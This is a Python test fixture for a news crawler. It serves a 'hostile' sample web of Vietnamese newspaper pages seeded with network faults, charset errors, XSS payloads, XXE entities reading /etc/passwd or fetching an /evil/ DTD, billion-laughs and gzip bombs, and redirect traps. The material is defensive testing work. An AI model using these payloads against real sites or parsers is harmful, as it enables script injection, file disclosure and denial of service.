"""The hostile sample web: the four newspapers with faults, bad input and attacks.

``aggregator sampleweb --hostile SEED`` (``SampleWeb(hostile=SEED)``) serves the sample web
with the faults real provincial sites show, chosen deterministically from SEED: which
article or page gets which fault depends only on the seed (and the ground truth), so a
failing crawl can be replayed. Pages without a fault are the normal web's bytes.

Every fault is recorded in the hostile ground truth (:class:`HostilePlan`, written as JSON
with ``--write-truth FILE``): the path it is served at, the article it concerns, whether
a polite crawl can store that article (``servable``: after Scrapy's retries), and the
failure class (``failure``) the crawl must record, and ``aggregator status`` name, when it
cannot. The faults:

Served per request (the server counts the requests of each path):

``burst``      5xx for the first 1-2 requests, then the page (cleared by retries)
``429``        429 with ``Retry-After: 1`` for the first request, then the page
``slow``       the page dripped out over :data:`SLOW_SECONDS` (under the crawl's timeout)
``hang-once``  the first request gets no answer until the client gives up (a timeout)
``reset``      the first connection is reset (TCP RST) before any byte of the answer
``truncated-once`` the first answer promises more bytes (Content-Length) than it sends
``http-500``   500 on every request (not servable: ``http_500``)
``hang``       never answered (not servable: ``timeout``)
``truncated``  always cut short (not servable: ``truncated``; never stored half)

Pages rendered differently:

``no-charset``     no charset in the header nor in the page (UTF-8 found by detection)
``wrong-charset``  the header says ``iso-8859-1`` for UTF-8 bytes: stored, flagged
                   ``encoding_garbled`` (the documented behaviour, see README)
``windows-1258``   the page in windows-1258 (tone marks as combining characters), declared
                   in the header; ``windows-1258-meta`` declared in ``<meta>`` only
``octet-stream``   an article served as ``application/octet-stream`` (sniffed as HTML)
``malformed``      unclosed ``<p>``/``<b>``/``<i>``/``<span>``/``<font>``, nested ``<form>``s,
                   unquoted and duplicate attributes; ``stray-end-tags``: ``</body></html>``
                   in the middle of the article (browsers ignore them)
``xml-invalid``    C0 controls, U+FFFE and ``&#1;``-style references in title and body
``payload``        ``script``, ``iframe``, ``svg``, ``object``, ``embed``, ``onerror=``,
                   ``javascript:`` and ``data:`` payloads in the body and an ``og:image``
``many-urls``      the article linked under several URLs (tracking and session parameters,
                   a percent-encoded path): stored once

New pages, linked from the first listing page of a section:

``payload-article`` an article whose title, lead and body carry markup payloads typed into
                    the CMS (stored with the payloads removed: ``expected_title``)
``gzip-bomb``       ``Content-Encoding: gzip``, 64 KB that inflate to 64 MB (``too_large``)
``oversize``        20 MB with its Content-Length; ``oversize-stream`` without (``too_large``)
``redirect-loop``   two URLs redirecting to each other; ``redirect-chain`` an endless chain
                    of new URLs (``redirect_loop``)
``redirect-offsite`` an article URL (and songcau's kinh-te RSS feed, a start URL) redirecting
                    to another host (``offsite_redirect``; nothing under ``/evil/`` may ever
                    be requested)
``not-html``        a PDF, a JPEG and JSON on article URLs (``not_html``)
``billion-laughs`` / ``xxe``  songcau's y-te and giao-duc RSS feeds, and the sitemaps its
                    hostile definition names, with entity expansion bombs and external
                    entities (``file:///etc/passwd``, ``/evil/xxe``)
``calendar-trap``   a "day before" link on a listing, endless (``?p=1&d=<date>``)
``pagination-trap`` a "next page" link after a section's last page, endless

Traps carry ``bound``: the most requests a crawl may make to them (the site's
``max_listing_pages``). Baden's dead link (404) and soft 404 of the normal web are in the
plan too (``http_404``, ``extraction``).

The crawl needs a download timeout below :data:`HANG_SECONDS` for hangs to be timeouts
(:data:`CRAWL_SETTINGS`; the project default of 30 s works, slowly).
"""

from __future__ import annotations

import gzip
import random
import re
import select
import socket
import struct
import threading
import time
import unicodedata
from collections import Counter
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field, replace
from datetime import datetime
from http.server import BaseHTTPRequestHandler
from typing import Any
from urllib.parse import parse_qsl, urlsplit

from sampleweb.base import HTML, PNG_BYTES, VN, Page, SiteTemplate, esc
from sampleweb.groundtruth import Block, GroundTruthArticle
from sampleweb.render import TEMPLATES, load_all_ground_truth, render_web

__all__ = [
    "CRAWL_SETTINGS",
    "HANG_SECONDS",
    "PAYLOAD_MARK",
    "SLOW_SECONDS",
    "Fault",
    "HostilePlan",
    "HostileWeb",
    "hostile_site_definition",
    "plan_hostile_web",
]

#: Every executable payload carries this text (the tests look for payloads, not for it).
PAYLOAD_MARK = "HOSTILE-PAYLOAD"
#: A hanging answer is held this long at most (well over the crawl's DOWNLOAD_TIMEOUT).
HANG_SECONDS = 45.0
#: How long a slow page takes to arrive (well under the crawl's DOWNLOAD_TIMEOUT).
SLOW_SECONDS = 0.8
#: Scrapy settings a crawl of the hostile web should use: hangs cost 3 x the timeout.
CRAWL_SETTINGS: dict[str, Any] = {"DOWNLOAD_TIMEOUT": 3}
#: Bytes a gzip bomb inflates to, and the size of an oversize page (DOWNLOAD_MAXSIZE: 16 MiB).
BOMB_BYTES = 64 * 1024 * 1024
OVERSIZE_BYTES = 20 * 1024 * 1024
#: The host an off-site redirect sends to: another name of the same server, so that a
#: crawl following it would show in the access log (paths under ``/evil/``).
OFFSITE_HOST = "localhost"
EVIL = "/evil/"

_JS = f"alert('{PAYLOAD_MARK}')"
_DATA_HTML = "data:text/html;base64,PHNjcmlwdD5hbGVydCgnSE9TVElMRS1QQVlMT0FEJyk8L3NjcmlwdD4="
_DATA_SVG = "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"
#: Raw markup an editor (or an attacker) got into an article body.
PAYLOAD_HTML = (
    f"<script>{_JS}</script>"
    f'<script src="http://{OFFSITE_HOST}/evil/x.js"></script>'
    f'<iframe src="javascript:{_JS}" width="0" height="0"></iframe>'
    f'<img src="{_DATA_SVG}" onerror="{_JS}" alt="">'
    f'<svg onload="{_JS}"><circle r="1"/></svg>'
    f'<object data="{_DATA_HTML}"></object><embed src="javascript:{_JS}">'
    f'<style>p{{background:url("javascript:{_JS}")}}</style>'
    f'<math><maction actiontype="statusline" xlink:href="javascript:{_JS}">x</maction></math>'
    f'<form action="javascript:{_JS}"><button formaction="javascript:{_JS}">Gửi</button></form>'
)
#: Payload text an editor pasted into a paragraph: it shows as text (escaped in the page).
PAYLOAD_TEXT = f"<script>{_JS}</script>"

#: Characters XML 1.0 cannot carry, as raw characters and as references.
XML_INVALID = ("\x01", "\x0b", "\x1f", "\ufffe", "&#1;", "&#x0B;", "&#xFFFF;")

_TONES = frozenset("\u0300\u0301\u0303\u0309\u0323")


@dataclass(frozen=True)
class Fault:
    """One fault of the hostile web, as recorded in its ground truth."""

    kind: str
    site: str
    #: the server path (with query) it is served at; a regex for traps
    path: str
    #: the ground-truth key of the article served there, if any
    article: str | None = None
    #: a crawl can store that article (after retries)
    servable: bool = True
    #: the failure class the crawl records (and ``status`` names) when it cannot
    failure: str | None = None
    #: requests that fail before the page is served (per-request faults)
    fails: int = 0
    #: traps: the most requests a crawl may make to paths matching ``path``
    bound: int | None = None
    #: what a polite crawl must do, in words
    note: str = ""

    def to_json(self) -> dict[str, Any]:
        out = {k: v for k, v in self.__dict__.items() if v not in (None, "", 0)}
        if self.article:
            out["servable"] = self.servable
        return out


@dataclass(frozen=True)
class PayloadArticle:
    """An article typed into a CMS with payloads in its fields, and what must be kept."""

    article: GroundTruthArticle
    #: title and lead as a safe store keeps them (markup removed)
    expected_title: str
    expected_lead: str

    def to_json(self) -> dict[str, Any]:
        a = self.article
        return {
            "key": a.key,
            "site": a.site,
            "path": TEMPLATES[a.site].article_path(a),
            "title_as_typed": a.title,
            "expected_title": self.expected_title,
            "lead_as_typed": a.lead,
            "expected_lead": self.expected_lead,
        }


@dataclass
class HostilePlan:
    """The hostile ground truth: the web's articles and every fault, from one seed."""

    seed: int
    #: site id -> articles served (the normal ground truth plus the payload articles)
    ground_truth: dict[str, list[GroundTruthArticle]]
    faults: list[Fault] = field(default_factory=list)
    payload_articles: list[PayloadArticle] = field(default_factory=list)
    #: article key -> extra server paths (with query) that serve it ("many-urls")
    extra_paths: dict[str, list[str]] = field(default_factory=dict)

    @property
    def articles(self) -> list[GroundTruthArticle]:
        return [a for site in sorted(self.ground_truth) for a in self.ground_truth[site]]

    def unservable_keys(self) -> set[str]:
        return {f.article for f in self.faults if f.article and not f.servable}

    def servable(self) -> list[GroundTruthArticle]:
        """Every article a polite crawl can store, with the fields a safe store keeps."""
        safe = {p.article.key: p for p in self.payload_articles}
        out = []
        for a in self.articles:
            if a.key in self.unservable_keys():
                continue
            if a.key in safe:
                a = replace(a, title=safe[a.key].expected_title, lead=safe[a.key].expected_lead)
            out.append(a)
        return out

    def paths_of(self, a: GroundTruthArticle) -> list[str]:
        """Every server path serving an article: its own, its aliases, its extra URLs."""
        template = TEMPLATES[a.site]
        return [
            template.article_path(a),
            *template.alias_paths(a),
            *self.extra_paths.get(a.key, []),
        ]

    def flagged(self, flag: str) -> set[str]:
        """Keys of the articles stored with ``flag`` (only encoding_garbled here)."""
        kinds = {"encoding_garbled": ("wrong-charset",)}[flag]
        return {f.article for f in self.faults if f.kind in kinds and f.article}

    def failures(self) -> dict[str, Counter[str]]:
        """Site id -> failure class -> how many the crawl must record."""
        out: dict[str, Counter[str]] = {s: Counter() for s in self.ground_truth}
        for f in self.faults:
            if f.failure:
                out[f.site][f.failure] += 1
        return out

    def traps(self) -> list[Fault]:
        return [f for f in self.faults if f.bound is not None]

    def to_json(self) -> dict[str, Any]:
        return {
            "seed": self.seed,
            "crawl_settings": CRAWL_SETTINGS,
            "faults": [f.to_json() for f in self.faults],
            "payload_articles": [p.to_json() for p in self.payload_articles],
            "extra_paths": self.extra_paths,
            "failures": {s: dict(sorted(c.items())) for s, c in sorted(self.failures().items())},
            "servable": sorted(a.key for a in self.servable()),
            "unservable": sorted(self.unservable_keys()),
        }


# -- payload articles: our own short texts, typed into the CMS with markup -------------------


def _payload_articles() -> list[PayloadArticle]:
    def art(
        site: str, n: int, section: str, category: str, title: str, lead: str,
        paragraphs: Sequence[str], byline: str, when: datetime,
    ) -> GroundTruthArticle:  # fmt: skip
        return GroundTruthArticle(
            site=site,
            key=f"{site}-hostile-{n}",
            id=990000 + n,
            slug=f"bai-viet-thu-nghiem-{n}",
            sections=(section,),
            category=category,
            categories=(category,),
            title=title,
            lead=lead,
            source_tag=None,
            body=tuple(Block("p", p) for p in paragraphs),
            byline=byline,
            authors=(byline,),
            published=when,
        )

    script = f'<script>alert("{PAYLOAD_MARK}")</script>'
    return [
        PayloadArticle(
            art("baden", 1, "kinh-te", "kinh-te",
                f"Lịch tạm ngừng cấp điện tuần tới ở thành phố Tây Ninh {script}",
                "Điện lực Tây Ninh thông báo lịch tạm ngừng cấp điện để bảo trì lưới điện trung thế.",
                ("Theo thông báo, các khu vực phường 1, phường 3 và xã Bình Minh sẽ tạm ngừng cấp "
                 "điện từ 7 giờ đến 16 giờ ngày thứ Ba để thay dây dẫn và sứ cách điện.",
                 "Ngành điện đề nghị các cơ sở sản xuất chủ động sắp xếp kế hoạch, người dân "
                 "không đến gần khu vực đang thi công.",
                 "Trường hợp hoàn thành sớm, điện sẽ được cấp lại mà không báo trước."),
                "Hoàng Yến", datetime(2026, 11, 18, 9, 30, tzinfo=VN)),
            "Lịch tạm ngừng cấp điện tuần tới ở thành phố Tây Ninh",
            "Điện lực Tây Ninh thông báo lịch tạm ngừng cấp điện để bảo trì lưới điện trung thế.",
        ),
        PayloadArticle(
            art("tamdao", 2, "kinh-te", "kinh-te",
                f"<img src=x onerror=alert('{PAYLOAD_MARK}')>Mở lớp tin học miễn phí cho người cao tuổi",
                f'Hội Người cao tuổi phường Liên Bảo mở lớp dùng điện thoại thông minh <a href="javascript:{_JS}">đăng ký</a>.',
                ("Lớp học kéo dài bốn tuần, mỗi tuần hai buổi vào sáng thứ Bảy và Chủ nhật tại "
                 "nhà văn hóa tổ dân phố số 5.",
                 "Học viên được hướng dẫn cài ứng dụng định danh điện tử, thanh toán hóa đơn "
                 "điện nước và nhận biết tin nhắn lừa đảo.",
                 "Ban tổ chức cho mượn máy với những người chưa có điện thoại phù hợp."),
                "Quang Huy", datetime(2026, 11, 17, 14, 10, tzinfo=VN)),
            "Mở lớp tin học miễn phí cho người cao tuổi",
            "Hội Người cao tuổi phường Liên Bảo mở lớp dùng điện thoại thông minh đăng ký.",
        ),
        PayloadArticle(
            art("songcau", 3, "kinh-te", "kinh-te",
                f'Phiên chợ nông sản an toàn cuối tuần <iframe src="javascript:{_JS}"></iframe>',
                f'Hơn sáu mươi gian hàng chè, rau và gạo đặc sản <svg onload="{_JS}"></svg>tham gia phiên chợ.',
                ("Phiên chợ diễn ra tại quảng trường trung tâm từ chiều thứ Sáu đến hết Chủ nhật, "
                 "mỗi gian hàng đều có tem truy xuất nguồn gốc.",
                 "Các hợp tác xã chè Tân Cương giới thiệu cách pha và bảo quản chè búp khô cho "
                 "người tiêu dùng.",
                 "Ban quản lý chợ bố trí điểm gửi xe miễn phí và khu vui chơi cho trẻ em."),
                "Thu Trang", datetime(2026, 11, 16, 16, 45, tzinfo=VN)),
            "Phiên chợ nông sản an toàn cuối tuần",
            "Hơn sáu mươi gian hàng chè, rau và gạo đặc sản tham gia phiên chợ.",
        ),
        PayloadArticle(
            art("caonguyen", 4, "xa-hoi", "xa-hoi",
                f'<a href="{_DATA_HTML}">Khuyến cáo</a> phòng bệnh sốt xuất huyết trong mùa mưa',
                f"Trung tâm Kiểm soát bệnh tật tỉnh đề nghị người dân diệt lăng quăng mỗi tuần <b onmouseover=\"{_JS}\">một lần</b>.",
                ("Từ đầu mùa mưa, số ca mắc sốt xuất huyết tại các huyện phía nam tăng so với "
                 "cùng kỳ, chủ yếu ở trẻ em và thanh niên.",
                 "Ngành y tế khuyến cáo đậy kín dụng cụ chứa nước, thả cá diệt lăng quăng và "
                 "ngủ màn kể cả ban ngày.",
                 "Khi sốt cao liên tục, người bệnh cần đến cơ sở y tế, không tự ý truyền dịch tại nhà."),
                "Hồng Nhung", datetime(2026, 11, 15, 8, 20, tzinfo=VN)),
            "Khuyến cáo phòng bệnh sốt xuất huyết trong mùa mưa",
            "Trung tâm Kiểm soát bệnh tật tỉnh đề nghị người dân diệt lăng quăng mỗi tuần một lần.",
        ),
    ]  # fmt: skip


# -- text and markup helpers -------------------------------------------------------------


def to_windows_1258(text: str) -> bytes:
    """Vietnamese text in windows-1258: precomposed letters without tone, then the tone
    as a combining mark (the code page has no toned letters); the rest as references."""
    out = []
    for ch in unicodedata.normalize("NFC", text):
        parts = unicodedata.normalize("NFD", ch)
        base = unicodedata.normalize("NFC", "".join(c for c in parts if c not in _TONES))
        out.append(base + "".join(c for c in parts if c in _TONES))
    return "".join(out).encode("cp1258", errors="xmlcharrefreplace")


_META_CHARSET = re.compile(
    r'<meta\s+charset="?utf-8"?\s*/?>|<meta\s+http-equiv="Content-Type"\s+content="text/html;\s*charset=utf-8"\s*/?>',
    re.IGNORECASE,
)


def _set_meta_charset(markup: str, charset: str | None) -> str:
    """Replace the page's ``<meta charset>`` (``None``: remove it)."""
    new = f'<meta charset="{charset}">' if charset else ""
    out, n = _META_CHARSET.subn(new, markup, count=1)
    if not n:
        raise ValueError("page without a meta charset")
    return out


def _printed(template: SiteTemplate, text: str) -> str:
    """A text as the template prints it (legacy templates print NFD and U+00D0)."""
    return template.t(text)


def _find(markup: str, needle: str) -> int:
    for form in (needle, unicodedata.normalize("NFD", needle)):
        at = markup.find(form)
        if at >= 0:
            return at
    raise ValueError(f"not in the page: {needle[:40]!r}")


def _paragraph_start(markup: str, template: SiteTemplate, a: GroundTruthArticle, n: int) -> int:
    """Offset of the ``<p`` of the ``n``-th paragraph (from 0) of an article page."""
    paragraphs = [b for b in a.body if b.type == "p"]
    text = paragraphs[min(n, len(paragraphs) - 1)].text
    at = _find(markup, _printed(template, text))
    return markup.rfind("<p", 0, at)


def _insert(markup: str, at: int, snippet: str) -> str:
    return markup[:at] + snippet + markup[at:]


def _before_body_end(markup: str, snippet: str) -> str:
    at = markup.rfind("</body>")
    return _insert(markup, at if at >= 0 else len(markup), snippet)


def _links_box(links: Sequence[tuple[str, str]]) -> str:
    items = "".join(f'<li><a href="{esc(href)}">{esc(text)}</a></li>' for href, text in links)
    return (
        f'\n<div class="box-hot"><div class="box-title">Tin nổi bật</div><ul>{items}</ul></div>\n'
    )


def _filler(size: int) -> Iterator[bytes]:
    """An HTML page of ``size`` bytes, in 64 KiB chunks."""
    head = b"<!DOCTYPE html><html><head><title>Trang lon</title></head><body>"
    chunk = b"<p>" + b"x" * 65530 + b"</p>"
    yield head
    sent = len(head)
    while sent < size:
        piece = chunk[: size - sent]
        yield piece
        sent += len(piece)


def _gzip_bomb() -> bytes:
    """A gzip member of ~64 KiB that inflates to :data:`BOMB_BYTES` of HTML."""
    head = b"<!DOCTYPE html><html><head><title>Bom</title></head><body><p>"
    return gzip.compress(head + b" " * (BOMB_BYTES - len(head)), compresslevel=9, mtime=0)


# -- XML attacks --------------------------------------------------------------------------

_LAUGHS = (
    '<!DOCTYPE {root} [\n<!ENTITY lol "lol">\n'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'
        for i in range(1, 10)
    )
    + "]>\n"
)


def _xxe(root: str, origin: str) -> str:
    return (
        f"<!DOCTYPE {root} [\n"
        '<!ENTITY xxe SYSTEM "file:///etc/passwd">\n'
        f'<!ENTITY xxe2 SYSTEM "http://{OFFSITE_HOST}:{urlsplit(origin).port}{EVIL}xxe.txt">\n'
        f'<!ENTITY % remote SYSTEM "http://{OFFSITE_HOST}:{urlsplit(origin).port}{EVIL}xxe.dtd">\n'
        "%remote;\n]>\n"
    )


def _with_doctype(xml: str, doctype: str) -> str:
    """Insert a DOCTYPE after the XML declaration."""
    end = xml.find("?>") + 2 if xml.startswith("<?xml") else 0
    return xml[:end] + "\n" + doctype + xml[end:].lstrip("\n")


# -- the plan ---------------------------------------------------------------------------------


def _plain_articles(articles: Sequence[GroundTruthArticle]) -> list[GroundTruthArticle]:
    """Articles of their own story, without aliases or events: a fault on one of them
    changes nothing else of the ground truth."""
    return [
        a for a in articles if a.story == a.key and not a.aliases and not a.event and not a.wire
    ]


def _fake(template: type[SiteTemplate], base: GroundTruthArticle, n: int, slug: str) -> str:
    """An article-like path of a site that serves no article (id 98xxxx)."""
    return template.article_path(replace(base, key=f"{base.site}-x{n}", id=980000 + n, slug=slug))


#: Per-request faults on ground-truth articles: kind -> (servable, failure, fails).
_ARTICLE_FAULTS: dict[str, tuple[bool, str | None, int]] = {
    "burst": (True, None, 2),
    "429": (True, None, 1),
    "slow": (True, None, 0),
    "hang-once": (True, None, 1),
    "reset": (True, None, 1),
    "truncated-once": (True, None, 1),
    "http-500": (False, "http_500", 10**9),
    "hang": (False, "timeout", 10**9),
    "truncated": (False, "truncated", 10**9),
}
#: Pages rendered differently (all servable).
_PAGE_FAULTS = (
    "no-charset", "wrong-charset", "windows-1258", "windows-1258-meta", "octet-stream",
    "malformed", "stray-end-tags", "xml-invalid", "payload",
)  # fmt: skip
#: New URLs linked from a listing: kind -> failure class.
_URL_FAULTS: dict[str, str] = {
    "gzip-bomb": "too_large",
    "oversize": "too_large",
    "oversize-stream": "too_large",
    "redirect-loop": "redirect_loop",
    "redirect-chain": "redirect_loop",
    "redirect-offsite": "offsite_redirect",
    "not-html-pdf": "not_html",
    "not-html-image": "not_html",
    "not-html-json": "not_html",
}
#: Query variants of "many-urls", by site (the article regexes of baden and tamdao end in
#: ``.html$``: no query; songcau and caonguyen accept one).
_VARIANTS = {
    "songcau": ("?utm_source=facebook&utm_campaign=chia-se", "?fbclid=IwAR0hostile",
                "?PHPSESSID=5f2b9c0e7d&ref=home", "?page=1"),
    "caonguyen": ("?utm_source=zalo&utm_medium=social", "?gclid=Cj0KCQhostile",
                  "?zarsrc=30&utm_campaign=tin-moi"),
}  # fmt: skip


def plan_hostile_web(
    seed: int, ground_truth: Mapping[str, Sequence[GroundTruthArticle]] | None = None
) -> HostilePlan:
    """The hostile ground truth for ``seed``: which article or page gets which fault."""
    base = dict(ground_truth or load_all_ground_truth())
    missing = set(TEMPLATES) - set(base)
    if missing:
        raise ValueError(f"the hostile web needs all four newspapers; missing {sorted(missing)}")
    rng = random.Random(seed)
    payloads = _payload_articles()
    gt = {
        s: [*base[s], *(p.article for p in payloads if p.article.site == s)] for s in sorted(base)
    }
    plan = HostilePlan(seed, gt, payload_articles=payloads)
    sites = sorted(gt)
    pools = {s: _plain_articles(base[s]) for s in sites}
    for pool in pools.values():
        rng.shuffle(pool)

    def take(site: str) -> GroundTruthArticle:
        return pools[site].pop()

    for kind, (servable, failure, fails) in _ARTICLE_FAULTS.items():
        site = rng.choice(sites)
        a = take(site)
        plan.faults.append(
            Fault(kind, site, TEMPLATES[site].article_path(a), a.key, servable, failure, fails)
        )
    for kind in _PAGE_FAULTS:
        site = rng.choice(sites)
        a = take(site)
        plan.faults.append(Fault(kind, site, TEMPLATES[site].article_path(a), a.key))
    for site, variants in _VARIANTS.items():
        a = take(site)
        path = TEMPLATES[site].article_path(a)
        plan.extra_paths[a.key] = [path + v for v in variants]
        plan.faults.append(Fault("many-urls", site, path, a.key, note=" ".join(variants)))
    a = take("baden")  # a percent-encoded path (baden's regex takes any slug)
    path = TEMPLATES["baden"].article_path(a)
    encoded = path.replace(f"/baden/{a.slug[0]}", f"/baden/%{ord(a.slug[0]):02X}", 1)
    plan.extra_paths[a.key] = [encoded]
    plan.faults.append(Fault("many-urls", "baden", path, a.key, note=encoded))
    for p in payloads:
        path = TEMPLATES[p.article.site].article_path(p.article)
        plan.faults.append(Fault("payload-article", p.article.site, path, p.article.key))
    for n, (kind, failure) in enumerate(_URL_FAULTS.items(), start=1):
        site = rng.choice(sites)
        first = base[site][0]
        path = _fake(TEMPLATES[site], first, n, f"tin-{kind}")
        plan.faults.append(Fault(kind, site, path, None, False, failure))
    plan.faults.append(
        Fault("redirect-offsite-feed", "songcau", "/songcau/rss/kinh-te.rss", None, False,
              "offsite_redirect", note="a start URL (an RSS feed) redirecting off-site")
    )  # fmt: skip
    for kind, path in (
        ("billion-laughs", "/songcau/rss/y-te.rss"),
        ("xxe", "/songcau/rss/giao-duc.rss"),
        ("billion-laughs", "/songcau/sitemap-bomb.xml"),
        ("xxe", "/songcau/sitemap-xxe.xml"),
        ("sitemap-index", "/songcau/sitemap.xml"),
    ):
        plan.faults.append(Fault(kind, "songcau", path, None, note="nothing expanded or fetched"))
    # traps: bounded by the per-source pagination limit of the site definitions (10)
    section = rng.choice(sorted(TEMPLATES["baden"].sections))
    plan.faults.append(
        Fault("calendar-trap", "baden", rf"^/baden/{section}/\?p=1&d=\d{{4}}-\d\d-\d\d$",
              None, bound=10, note=f"linked from /baden/{section}/")
    )  # fmt: skip
    section = rng.choice(sorted(TEMPLATES["tamdao"].sections))
    plan.faults.append(
        Fault("pagination-trap", "tamdao", rf"^/tamdao/{section}/p/\d+$", None, bound=10,
              note="every page past the last links the next")
    )  # fmt: skip
    # the normal web's broken links (baden's phap-luat listing)
    baden = TEMPLATES["baden"]
    plan.faults.append(Fault("dead-link", "baden", baden.HARD_404, None, False, "http_404"))  # type: ignore[attr-defined]
    plan.faults.append(Fault("soft-404", "baden", baden.SOFT_404, None, False, "extraction"))  # type: ignore[attr-defined]
    return plan


def hostile_site_definition(site_id: str, toml: str) -> str:
    """A site definition for the hostile web: songcau also reads its sitemaps."""
    if site_id == "songcau":
        return toml.replace("feeds = [", 'sitemaps = ["sitemap.xml"]\nfeeds = [', 1)
    return toml


# -- rendering and serving ------------------------------------------------------------------


Record = Callable[[BaseHTTPRequestHandler, int, int], None]


class HostileWeb:
    """The pages of the hostile web and its per-request faults, for :class:`SampleWeb`.

    ``pages`` are static (the normal web with changed and added pages); :meth:`serve`
    answers the requests that a per-request fault, a trap or a redirect takes over.
    """

    def __init__(
        self,
        seed: int,
        origin: str,
        ground_truth: Mapping[str, Sequence[GroundTruthArticle]] | None = None,
        *,
        stopping: threading.Event | None = None,
    ) -> None:
        self.plan = plan_hostile_web(seed, ground_truth)
        self.origin = origin.rstrip("/")
        self.stopping = stopping or threading.Event()
        self.templates = {
            s: TEMPLATES[s](arts, origin) for s, arts in self.plan.ground_truth.items()
        }
        self._hits: Counter[str] = Counter()
        self._lock = threading.Lock()
        self._dynamic: dict[str, Fault] = {}
        self._bomb = b""
        self.pages = render_web(origin, self.plan.ground_truth)
        self._render()

    # -- static pages ------------------------------------------------------------------------

    def _article(self, key: str) -> GroundTruthArticle:
        return next(a for a in self.plan.articles if a.key == key)

    def _render(self) -> None:
        pages, plan = self.pages, self.plan
        links: dict[str, list[tuple[str, str]]] = {}  # listing path -> injected links
        port = urlsplit(self.origin).port

        def first_listing(site: str, section: str | None = None) -> str:
            t = self.templates[site]
            return t.listing_path(section or next(iter(t.sections)), 1)

        for f in plan.faults:
            t = self.templates[f.site]
            if f.kind in _ARTICLE_FAULTS:
                self._dynamic[f.path] = f
            elif f.kind in _PAGE_FAULTS:
                a = self._article(f.article or "")
                pages[f.path] = self._page_fault(f.kind, t, a, pages[f.path])
            elif f.kind == "many-urls":
                a = self._article(f.article or "")
                variants = plan.extra_paths[a.key]
                for path in variants:
                    pages[path] = pages[f.path]
                links.setdefault(first_listing(f.site, a.section), []).extend(
                    (p, a.title) for p in variants
                )
            elif f.kind == "payload-article":
                a = self._article(f.article or "")
                markup = pages[f.path].body.decode()
                at = _paragraph_start(markup, t, a, 1)
                escaped = f"<p>{esc(PAYLOAD_TEXT)}</p>"  # pasted as text: shown, never run
                pages[f.path] = replace(
                    pages[f.path], body=_insert(markup, at, PAYLOAD_HTML + escaped).encode()
                )
            elif f.kind in _URL_FAULTS and f.path.startswith(f"/{f.site}/"):
                links.setdefault(first_listing(f.site), []).append((f.path, f"Tin {f.kind}"))
                self._url_fault(f, port)
        self._xml_attacks(port)
        self._traps(links)
        for path, extra in links.items():
            markup = pages[path].body.decode()
            pages[path] = replace(
                pages[path], body=_before_body_end(markup, _links_box(extra)).encode()
            )

    def _page_fault(self, kind: str, t: SiteTemplate, a: GroundTruthArticle, page: Page) -> Page:
        markup = page.body.decode()
        if kind == "no-charset":
            return replace(
                page, content_type="text/html", body=_set_meta_charset(markup, None).encode()
            )
        if kind == "wrong-charset":
            return replace(page, content_type="text/html; charset=iso-8859-1")
        if kind == "windows-1258":
            body = to_windows_1258(_set_meta_charset(markup, "windows-1258"))
            return replace(page, content_type="text/html; charset=windows-1258", body=body)
        if kind == "windows-1258-meta":
            body = to_windows_1258(_set_meta_charset(markup, "windows-1258"))
            return replace(page, content_type="text/html", body=body)
        if kind == "octet-stream":
            return replace(page, content_type="application/octet-stream")
        if kind == "malformed":
            # inline elements left open inside the first paragraph (its </p> closes them)
            at = markup.find(">", _paragraph_start(markup, t, a, 0)) + 1
            markup = _insert(markup, at, '<font color=red><b><i class=a class=b title=x"y><span>')
            first_end = markup.find("</p>", at) + len("</p>")
            end = markup.find("</body>")
            middle = markup[first_end:end].replace("</p>", "")  # the other <p> left open
            markup = markup[:first_end] + middle + markup[end:]
            at = _paragraph_start(markup, t, a, 1)
            markup = _insert(
                markup, at, '<form action="/x"><form action="/y"><input name=q></form></form>'
            )
            return replace(page, body=markup.encode())
        if kind == "stray-end-tags":
            return replace(page, body=_insert(markup, _paragraph_start(markup, t, a, 1),
                                              "</body></html>").encode())  # fmt: skip
        if kind == "xml-invalid":
            for n, ch in enumerate(XML_INVALID):
                at = _paragraph_start(markup, t, a, n % 3)
                at = markup.find(">", at) + 1
                markup = _insert(markup, at, ch + " ")
            title = _printed(t, a.title)
            at = markup.find(f">{title}</h1>")
            if at < 0:
                at = markup.find(f">{unicodedata.normalize('NFD', title)}</h1>")
            if at >= 0:
                markup = _insert(markup, at + 1, "\x0c\x02 ")
            return replace(page, body=markup.encode())
        if kind == "payload":
            first = _paragraph_start(markup, t, a, 0)
            inner = markup.find(">", first) + 1
            close = markup.find("</p>", inner)
            markup = (
                markup[:inner]
                + f'<a href="javascript:{_JS}" onclick="{_JS}">'
                + markup[inner:close]
                + "</a>"
                + markup[close:]
            )
            markup = _insert(markup, _paragraph_start(markup, t, a, 1), PAYLOAD_HTML)
            head = markup.find("<head>") + len("<head>")
            markup = _insert(
                markup, head, f'\n<meta property="og:image" content="javascript:{_JS}">'
            )
            return replace(page, body=markup.encode())
        raise ValueError(f"unknown page fault {kind}")

    def _url_fault(self, f: Fault, port: int | None) -> None:
        pages = self.pages
        if f.kind in ("gzip-bomb", "oversize", "oversize-stream", "redirect-chain"):
            self._dynamic[f.path] = f
        elif f.kind == "redirect-loop":
            other = f.path.replace("tin-redirect-loop", "tin-redirect-loop-b")
            pages[f.path] = _redirect(other)
            pages[other] = _redirect(f.path)
        elif f.kind == "redirect-offsite":
            pages[f.path] = _redirect(f"http://{OFFSITE_HOST}:{port}{EVIL}bai-viet.html")
        elif f.kind == "not-html-pdf":
            pages[f.path] = Page(
                200,
                "application/pdf",
                b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n",
            )
        elif f.kind == "not-html-image":
            pages[f.path] = Page(200, "image/jpeg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + PNG_BYTES)
        elif f.kind == "not-html-json":
            pages[f.path] = Page(200, "application/json; charset=utf-8",
                                 b'{"title": "<script>alert(1)</script>", "body": "x"}')  # fmt: skip
        else:
            raise ValueError(f"unknown URL fault {f.kind}")

    def _xml_attacks(self, port: int | None) -> None:
        pages = self.pages
        evil = f"http://{OFFSITE_HOST}:{port}{EVIL}"
        pages["/songcau/rss/kinh-te.rss"] = _redirect(evil + "rss.xml")
        rss = pages["/songcau/rss/y-te.rss"].body.decode()
        rss = _with_doctype(rss, _LAUGHS.format(root="rss"))
        rss = rss.replace("<description>", "<description>&lol9;", 1)
        pages["/songcau/rss/y-te.rss"] = replace(pages["/songcau/rss/y-te.rss"], body=rss.encode())
